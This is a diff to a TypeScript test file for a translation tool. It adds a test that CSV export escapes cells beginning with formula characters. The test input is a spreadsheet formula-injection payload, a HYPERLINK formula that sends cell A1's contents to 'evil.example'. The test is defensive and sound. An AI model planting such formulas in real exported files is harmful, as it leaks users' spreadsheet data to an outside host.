@@ -11,6 +11,7 @@ import { sampleMemoryProject } from './sample-project.ts';
 import type { ProjectStore } from '../../services/store/project-store.ts';
 import { readTmx } from '../../articles/exchange/tmx.ts';
 import { readXliff } from '../../articles/exchange/xliff.ts';
+import { restoreFormulaCell } from '../../glossary/formats/spreadsheet-cells.ts';
 
 const NOW = '2026-03-01T10:00:00.000Z';
 const SAMPLE_000 = '000_a6e2b2736be51a55';
@@ -137,6 +138,20 @@ describe('align.* handlers on the default project samples', () => {
     expect(rows).toHaveLength(total);
     expect(rows.filter((row) => row.status === 'accepted')).toHaveLength(2);
     expect(rows[0].article).toBe(SAMPLE_000);
+  });
+
+  it('export.linksCsv never hands a spreadsheet a formula from an aligned translation (issue 13, item 8)', async () => {
+    const hostile = '=HYPERLINK("http://evil.example/?q="&A1,"Read more")';
+    const article = (await store.getArticle(SAMPLE_000))!;
+    // The first English sentence is the formula; the rest is ordinary text, one sentence per segment.
+    const english = [hostile, ...article.segments.slice(1).map((_, index) => `-${index + 5} °C was reported on day ${index + 1}.`)].join('\n');
+    await api['align.run']({ articleId: SAMPLE_000, english });
+    const csv = await api['export.linksCsv']({});
+    const records = parseCsv(csv.content, { bom: true }) as string[][];
+    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    const restored = records.flat().map(restoreFormulaCell);
+    expect(restored.some((cell) => cell.startsWith(hostile))).toBe(true);
+    expect(restored.some((cell) => /^-\d+ °C was reported/.test(cell))).toBe(true);
   });
 
   it('refuses edits when the project is read-only', async () => {
